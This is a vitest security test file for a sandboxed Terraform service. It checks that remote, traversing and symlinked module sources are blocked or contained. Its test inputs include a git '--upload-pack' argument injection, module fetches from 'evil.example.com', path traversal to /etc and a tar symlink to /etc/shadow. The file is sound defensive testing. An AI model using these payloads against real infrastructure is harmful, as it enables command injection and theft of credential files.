// Threat rows 9-15: module sources. Only local modules inside the upload are accepted by policy; with the
// rules set to warn, the jail (no git, no network, no host files) contains what terraform would fetch.
import { describe, expect, it } from 'vitest';
import { buildTarGz } from './support/archives.js';
import { errorText, expectBlocked, stepNames } from './support/expect.js';
import { files, runTerraform } from './support/runner.js';

const WARN = { TF_POLICY_WARN: 'module_source_remote,module_source_escapes' };
const moduleConfig = (source: string): Record<string, string> => ({ 'main.tf': `module "m" {\n  source = "${source}"\n}\n` });

describe('threat rows 9-12: remote module sources', () => {
  // [source, row, how the jail stops it]
  const remote: [string, string, RegExp][] = [
    // row 9: argument injection into git (CVE-2024-3817 class) and git config RCE: no git exists in the jail
    ['git::https://example.com/x.git?ref=--upload-pack=id', 'row 9', /git must be available and on the PATH/],
    ['git::ssh://git@example.com/x.git', 'row 9 (ssh)', /git must be available and on the PATH/],
    // row 10: http archive (X-Terraform-Get redirects, zip bombs): seccomp refuses AF_INET/AF_INET6 sockets
    ['https://evil.example.com/mod.zip', 'row 10', /socket: address family not supported by protocol/],
    // row 11: s3/gcs with ambient cloud credentials: there are none (init never gets the request's credentials)
    ['s3::https://s3.amazonaws.com/bucket/mod.zip', 'row 11', /AWS_ACCESS_KEY_ID or AWS_ACCESS_KEY not found in environment/],
    ['gcs::https://www.googleapis.com/storage/v1/bucket/mod.zip', 'row 11 (gcs)', /could not find default credentials/],
    // row 12: registry module on an attacker's host: no network
    ['evil.example.com/ns/name/aws', 'row 12', /discovery document[\s\S]*socket: address family not supported by protocol/],
  ];

  for (const [source, row] of remote) {
    it(`remote_module_${row.replace(/\W+/g, '_')}_is_blocked_security_violation`, async () => {
      const result = await runTerraform({ input: files(moduleConfig(source)) });
      expectBlocked(result, 'module_source_remote', 'main.tf', 2);
      expect(result.error?.message).toContain(source);
    });
  }

  for (const [source, row, failure] of remote) {
    it(`remote_module_${row.replace(/\W+/g, '_')}_with_policy_warning_cannot_fetch_validation_error`, async () => {
      const result = await runTerraform({ input: files(moduleConfig(source)) }, WARN);
      expect(result.error?.type).toBe('validation_error');
      expect(stepNames(result)).toEqual(['init']);
      expect(errorText(result)).toMatch(/Failed to download module|Error accessing remote module registry/);
      expect(errorText(result)).toMatch(failure);
    });
  }
});

describe('threat row 13: local modules leaving the upload', () => {
  it('dotdot_module_source_is_blocked_security_violation', async () => {
    const result = await runTerraform({ input: files({ 'env/prod/main.tf': 'module "m" {\n  source = "../../../../root"\n}\n' }), working_dir: 'env/prod' });
    expectBlocked(result, 'module_source_escapes', 'env/prod/main.tf', 2);
  });

  it('absolute_module_source_is_blocked_security_violation', async () => {
    expectBlocked(await runTerraform({ input: files(moduleConfig('/etc')) }), 'module_source_escapes', 'main.tf', 2);
  });

  it('dotdot_module_with_policy_warning_finds_no_host_directory_validation_error', async () => {
    const result = await runTerraform({ input: files(moduleConfig('../../../root')) }, WARN);
    expect(result.error?.type).toBe('validation_error');
    expect(errorText(result)).toMatch(/Unreadable module directory/);
  });

  it('absolute_module_with_policy_warning_sees_only_the_jail_etc', async () => {
    // terraform copies "/etc" as a module: inside the jail, /etc holds only the service's CLI config.
    const result = await runTerraform({
      input: files({
        'main.tf': 'module "m" {\n  source = "/etc"\n}\noutput "copied" {\n  value = fileset("/tmp/terraform-data/modules/m", "**")\n}\n',
      }),
    }, WARN);
    expect(result.error).toBeNull();
    const copied = (result.plan_json as { planned_values: { outputs: { copied: { value: string[] } } } }).planned_values.outputs.copied.value;
    expect(copied).toEqual(['confine/terraform.rc']);
  });

  it('module_beside_example_inside_upload_is_allowed_and_plans', async () => {
    const result = await runTerraform({
      input: files({
        'modules/net/main.tf': 'resource "terraform_data" "net" {\n  input = "n"\n}\n',
        'examples/simple/main.tf': 'module "net" {\n  source = "../../modules/net"\n}\n',
      }),
      working_dir: 'examples/simple',
    });
    expect(result.error).toBeNull();
    expect(result.summary).toMatchObject({ add: 1, resources: [{ address: 'module.net.terraform_data.net', actions: ['create'] }] });
  });
});

describe('threat rows 14-15: module name traversal and go-getter link bugs', () => {
  it('terraform_in_jail_is_patched_for_module_name_traversal', async () => {
    const result = await runTerraform({ input: files({ 'main.tf': 'output "v" {\n  value = 1\n}\n' }) });
    const [major, minor, patch] = String((result.plan_json as { terraform_version: string }).terraform_version).split('.').map(Number);
    expect(major! * 1e6 + minor! * 1e3 + patch!).toBeGreaterThanOrEqual(1_005_007); // CVE-2023-4782 fixed in 1.5.7
  });

  it('traversing_module_name_is_validation_error', async () => {
    const result = await runTerraform({
      input: files({ 'main.tf': 'module "../../../../tmp/x" {\n  source = "./m"\n}\n', 'm/main.tf': 'output "x" {\n  value = 1\n}\n' }),
    });
    expect(result.error?.type).toBe('validation_error');
    expect(errorText(result)).toMatch(/Invalid module instance name/);
  });

  it('symlink_inside_module_archive_is_security_violation', async () => {
    const data = buildTarGz([
      { path: 'main.tf', content: 'module "m" {\n  source = "./m"\n}\n' },
      { path: 'm/main.tf', content: 'output "x" {\n  value = file("${path.module}/secret")\n}\n' },
      { path: 'm/secret', type: 'SymbolicLink', linkpath: '/etc/shadow' },
    ]);
    const result = await runTerraform({ input: { kind: 'tar.gz', data } });
    expect(result.error?.type).toBe('security_violation');
    expect(result.error?.detail).toBe('m/secret -> /etc/shadow');
    expect(result.steps).toEqual([]);
  });
});
